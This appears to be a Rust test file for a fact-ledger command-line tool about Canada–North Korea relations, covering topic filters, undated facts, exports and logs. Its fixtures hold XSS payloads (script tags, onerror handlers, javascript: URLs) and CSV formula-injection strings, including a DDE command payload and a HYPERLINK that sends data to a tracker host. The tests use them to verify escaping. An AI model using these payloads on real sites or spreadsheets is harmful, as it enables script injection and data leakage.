//! Reports an editor uses: `summary --topic`, undated facts in past views,
//! `diff`, the HTML report, `export` and `log --topic`.

use crate::util::{Env, repo};
use serde_json::Value;

pub fn bundled() -> String {
    repo()
        .join("ledger/canada-dprk.jsonl")
        .display()
        .to_string()
}

/// Runs `ledger --ledger BUNDLED ARGS` and returns stdout (exit 0 asserted).
pub fn on_bundled(args: &[&str]) -> String {
    let env = Env::new();
    let ledger = bundled();
    let mut all = vec!["--ledger", ledger.as_str()];
    all.extend_from_slice(args);
    env.ok(&all).stdout
}

pub fn json(args: &[&str]) -> Value {
    serde_json::from_str(&on_bundled(args)).expect("JSON output")
}

/// Every fact view of a summary report: topic sections, context, timeline.
pub fn report_facts(v: &Value) -> Vec<&Value> {
    let mut out: Vec<&Value> = Vec::new();
    for t in v["topics"].as_array().unwrap() {
        out.extend(t["facts"].as_array().unwrap());
    }
    out.extend(v["context"].as_array().unwrap());
    out.extend(v["timeline"].as_array().unwrap().iter().map(|t| &t["fact"]));
    out
}

#[test]
fn summary_topic_narrows_facts_and_keeps_discrepancy_numbers() {
    let all = json(&["summary", "--as-of", "2019-12-31", "--format", "json"]);
    let some = json(&[
        "summary",
        "--as-of",
        "2019-12-31",
        "--format",
        "json",
        "--topic",
        "embassy",
        "--topic",
        "nuclear",
    ]);
    let facts = report_facts(&some);
    assert!(!facts.is_empty());
    for f in &facts {
        let t = f["topic"].as_str().unwrap();
        assert!(t == "embassy" || t == "nuclear", "{f}");
    }
    // Exactly the facts of those topics that the full report shows.
    let mut expected: Vec<&str> = report_facts(&all)
        .iter()
        .filter(|f| matches!(f["topic"].as_str(), Some("embassy" | "nuclear")))
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    let mut got: Vec<&str> = facts.iter().map(|f| f["id"].as_str().unwrap()).collect();
    expected.sort();
    expected.dedup();
    got.sort();
    got.dedup();
    assert_eq!(got, expected);
    // Discrepancies keep the numbers of the full report.
    let full: Vec<(String, Value)> = all["discrepancies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["id"].as_str().unwrap().to_string(), d["facts"].clone()))
        .collect();
    let topic_of = |id: &str| -> String {
        report_facts(&all)
            .iter()
            .find(|f| f["id"] == id)
            .map(|f| f["topic"].as_str().unwrap().to_string())
            .unwrap_or_default()
    };
    let expected: Vec<&(String, Value)> = full
        .iter()
        .filter(|(_, facts)| {
            facts.as_array().unwrap().iter().all(|f| {
                matches!(
                    topic_of(f.as_str().unwrap()).as_str(),
                    "embassy" | "nuclear"
                )
            })
        })
        .collect();
    let narrowed: Vec<(String, Value)> = some["discrepancies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["id"].as_str().unwrap().to_string(), d["facts"].clone()))
        .collect();
    assert!(!narrowed.is_empty() && narrowed.len() < full.len());
    assert_eq!(narrowed.iter().collect::<Vec<_>>(), expected);
    assert_eq!(
        some["topic_filter"],
        serde_json::json!(["embassy", "nuclear"])
    );
    let md = on_bundled(&["summary", "--as-of", "2019-12-31", "--topic", "embassy"]);
    assert!(md.contains("Only the topic `embassy`."), "{md}");
    assert!(!md.contains("## Sanctions"), "{md}");
}

#[test]
fn an_unknown_topic_is_refused() {
    let env = Env::new();
    let r = env.run(&["--ledger", &bundled(), "summary", "--topic", "santions"]);
    assert_eq!(r.code, 2, "{r}");
    assert!(
        r.stderr.contains("--topic `santions`: no such topic"),
        "{r}"
    );
    assert!(r.stderr.contains("sanctions"), "{r}");
}

#[test]
fn undated_facts_are_marked_in_every_view() {
    let v = json(&["summary", "--as-of", "1999-12-31", "--format", "json"]);
    let facts = report_facts(&v);
    assert!(!facts.is_empty());
    let mut undated = 0;
    for f in &facts {
        let none = f.get("valid_from").is_none() && f.get("valid_to").is_none();
        assert_eq!(f["undated"], Value::Bool(none), "{f}");
        undated += usize::from(none);
    }
    assert!(undated > 0);
    for format in ["markdown", "text"] {
        let out = on_bundled(&["summary", "--as-of", "1999-12-31", "--format", format]);
        for f in facts.iter().filter(|f| f["undated"] == true) {
            let id = f["id"].as_str().unwrap();
            let line = out
                .lines()
                .find(|l| l.contains(id))
                .unwrap_or_else(|| panic!("{id} not in the {format} report"));
            assert!(line.contains("(undated; "), "{format}: {line}");
        }
    }
}

/// The bundled ledger copied to `ledger/changed.jsonl` in `env`, with five
/// test entries after entry 65, recorded on 1 December 2026: a test source
/// (a summary of the report, with no archived text, so that nothing here
/// needs the seed texts), a retraction, a supersession, a dispute and a new
/// fact.
pub fn changed_ledger(env: &mut Env) -> &'static str {
    const PATH: &str = "ledger/changed.jsonl";
    env.write(
        PATH,
        std::fs::read(bundled()).expect("read the bundled ledger"),
    );
    env.set_now("2026-12-01T00:00:00Z");
    let l = ["--ledger", PATH];
    env.ok(&[
        l[0],
        l[1],
        "source",
        "add",
        "--id",
        "test-notes",
        "--title",
        "Test notes",
        "--publisher",
        "Test",
        "--derived-from",
        "globe-dprk-talks",
        "--derivation",
        "summary",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "retract",
        "embassy-reopening-ready-per-translation",
        "--reason",
        "mistranslated",
        "--note",
        "Test entry: the translation's 'ready' renders 'studying'.",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "supersede",
        "embassy-reopening-study",
        "--reason",
        "Test entry: cite the whole phrase.",
        "--source",
        "test-notes",
        "--locator",
        "p1",
        "--quote",
        "studying the possibility of reopening its embassy in Pyongyang",
        "--id",
        "embassy-reopening-study-v2",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "dispute",
        "sanctions-in-place",
        "--source",
        "test-notes",
        "--locator",
        "p2",
        "--difference",
        "understates",
        "--statement",
        "Test entry: a <b>derived</b> text says less.",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "add",
        "--id",
        "test-new-fact",
        "--subject",
        "CA-KP",
        "--topic",
        "humanitarian",
        "--modality",
        "reported",
        "--statement",
        "Test entry: a fact added after the last report.",
        "--source",
        "test-notes",
        "--locator",
        "p3",
        "--valid-from",
        "2019-03",
    ]);
    PATH
}

/// Text of [`hostile_ledger`] that a page must show as text.
pub const HOSTILE_SHOWN: [&str; 7] = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<b onmouseover=alert(5)>someone</b>",
    "<style>body{display:none}</style>",
    "\"><svg onload=alert(7)>",
    "javascript:alert(3)",
    "</p><a href=javascript:alert(6)>click</a>",
];

/// `ledger/hostile.jsonl` in `env`: every piece of text a report shows is
/// markup or script (title, publisher, URL, statement, attribution, note,
/// quote, value, dispute).
pub fn hostile_ledger(env: &Env) -> &'static str {
    const PATH: &str = "ledger/hostile.jsonl";
    let l = ["--ledger", PATH];
    env.ok(&[
        l[0],
        l[1],
        "init",
        "--title",
        "Hostile <script>alert(1)</script>",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "source",
        "add",
        "--id",
        "evil",
        "--title",
        "<img src=x onerror=alert(1)>",
        "--publisher",
        "</style><script>alert(2)</script>",
        "--url",
        "javascript:alert(3)",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "source",
        "add",
        "--id",
        "evil2",
        "--title",
        "<h1>Derived</h1>",
        "--publisher",
        "P",
        "--url",
        "https://example.org/a\"onmouseover=\"alert(4)",
        "--derived-from",
        "evil",
        "--derivation",
        "translation",
    ]);
    env.ok(&[
        l[0],
        l[1],
        "add",
        "--id",
        "evil-fact",
        "--subject",
        "CA-KP",
        "--topic",
        "embassy",
        "--modality",
        "alleged",
        "--statement",
        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
        "--attributed-to",
        "<b onmouseover=alert(5)>someone</b>",
        "--note",
        "</p><a href=javascript:alert(6)>click</a>",
        "--source",
        "evil",
        "--locator",
        "p1",
        "--quote",
        "\"><svg onload=alert(7)>",
        "--valid-from",
        "2018",
        "--value",
        r#"{"k":"<i>a</i>"}"#,
    ]);
    env.ok(&[
        l[0],
        l[1],
        "add",
        "--id",
        "evil-derived",
        "--subject",
        "CA-KP",
        "--topic",
        "embassy",
        "--modality",
        "confirmed",
        "--statement",
        "<u>Derived</u> claim",
        "--source",
        "evil2",
        "--locator",
        "p2",
        "--valid-from",
        "2018-10-03",
        "--valid-to",
        "2018-10-03",
        "--value",
        r#"{"k":"<u>b</u>"}"#,
    ]);
    env.ok(&[
        l[0],
        l[1],
        "dispute",
        "evil-fact",
        "--source",
        "evil2",
        "--locator",
        "p2",
        "--difference",
        "contradicts",
        "--statement",
        "<style>body{display:none}</style>",
    ]);
    PATH
}

#[test]
fn export_writes_one_row_per_fact_in_csv_and_jsonl() {
    let mut env = Env::new();
    let path = changed_ledger(&mut env);
    let jsonl = env
        .ok(&["--ledger", path, "export", "--format", "jsonl"])
        .stdout;
    let rows: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    // Every version of every fact: the bundled 55, a new version, a new fact.
    assert_eq!(rows.len(), 57);
    let by_id = |id: &str| rows.iter().find(|r| r["id"] == id).unwrap();
    assert_eq!(by_id("embassy-reopening-study")["status"], "superseded");
    assert_eq!(
        by_id("embassy-reopening-study")["superseded_by"],
        "embassy-reopening-study-v2"
    );
    assert_eq!(
        by_id("embassy-reopening-ready-per-translation")["retract_reason"],
        "mistranslated"
    );
    assert_eq!(by_id("test-new-fact")["status"], "live");

    let csv = env.ok(&["--ledger", path, "export"]).stdout;
    // An RFC 4180 reader reads it back: a header, then the same facts in the
    // same order, every record of the same width, notes with their commas
    // and quotes intact.
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(header, ledger::report::export::COLUMNS);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(records.len(), rows.len());
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (rec, row) in records.iter().zip(&rows) {
        assert_eq!(&rec[col("id")], row["id"].as_str().unwrap());
        assert_eq!(&rec[col("status")], row["status"].as_str().unwrap());
        assert_eq!(&rec[col("statement")], row["statement"].as_str().unwrap());
        assert_eq!(
            &rec[col("note")],
            row["note"].as_str().unwrap_or_default(),
            "{}",
            row["id"]
        );
        let cites = row["citations"].as_array().unwrap();
        assert_eq!(rec[col("sources")].lines().count(), cites.len());
        assert_eq!(rec[col("locators")].split('\n').count(), cites.len());
    }
    assert!(csv.contains("\r\n"), "records end in CRLF (RFC 4180)");
    let narrowed = env
        .ok(&["--ledger", path, "export", "--topic", "embassy"])
        .stdout;
    insta::assert_snapshot!("export_csv_embassy", narrowed);
}

#[test]
fn export_csv_cells_never_start_a_formula() {
    let env = Env::new();
    env.init();
    env.ok(&[
        "source",
        "add",
        "--id",
        "s",
        "--title",
        "=cmd|' /C calc'!A0",
        "--publisher",
        "P",
    ]);
    env.ok(&[
        "add",
        "--id",
        "f",
        "--subject",
        "CA-KP",
        "--topic",
        "embassy",
        "--statement",
        "=HYPERLINK(\"http://tracker.example/?\"&A1,\"click\")",
        "--attributed-to",
        "@someone",
        "--note=-1+1\nsecond line, \"quoted\"",
        "--source",
        "s",
        "--locator",
        "p1",
        "--quote",
        "+quote",
    ]);
    let csv = env.ok(&["export"]).stdout;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rec = reader.records().next().unwrap().unwrap();
    let col = |name: &str| {
        ledger::report::export::COLUMNS
            .iter()
            .position(|h| *h == name)
            .unwrap()
    };
    assert_eq!(
        &rec[col("statement")],
        "'=HYPERLINK(\"http://tracker.example/?\"&A1,\"click\")"
    );
    assert_eq!(&rec[col("attributed_to")], "'@someone");
    assert_eq!(&rec[col("note")], "'-1+1\nsecond line, \"quoted\"");
    assert_eq!(&rec[col("quotes")], "'+quote");
    // JSON Lines keeps the text exact.
    let jsonl = env.ok(&["export", "--format", "jsonl"]).stdout;
    let v: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(
        v["statement"],
        "=HYPERLINK(\"http://tracker.example/?\"&A1,\"click\")"
    );
}

#[test]
fn log_topic_is_repeatable() {
    let one = on_bundled(&["log", "--kind", "fact", "--topic", "embassy"]);
    let two = on_bundled(&[
        "log",
        "--kind",
        "fact",
        "--topic",
        "embassy",
        "--topic",
        "sanctions",
    ]);
    let sanctions = on_bundled(&["log", "--kind", "fact", "--topic", "sanctions"]);
    assert!(one.lines().count() > 0 && sanctions.lines().count() > 0);
    assert_eq!(
        two.lines().count(),
        one.lines().count() + sanctions.lines().count()
    );
    for l in two.lines() {
        assert!(l.contains(" embassy]") || l.contains(" sanctions]"), "{l}");
    }
}
